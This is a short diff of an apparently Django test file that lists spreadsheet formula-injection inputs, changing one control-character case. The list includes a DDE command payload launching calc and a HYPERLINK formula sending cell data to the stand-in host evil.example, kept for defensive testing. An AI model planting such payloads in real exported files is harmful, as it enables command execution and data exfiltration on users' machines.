@@ -21,7 +21,7 @@ from tests.directory.make import TODAY, make_offer
 
 pytestmark = pytest.mark.django_db
 FORMULAS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1",
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x01=1+1",
     "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1;"Preis")', "＝1+1", "＠SUM(1)",
 ]  # fmt: skip
 STARTS = tuple("=+-@＝＋－＠\t\r\n")
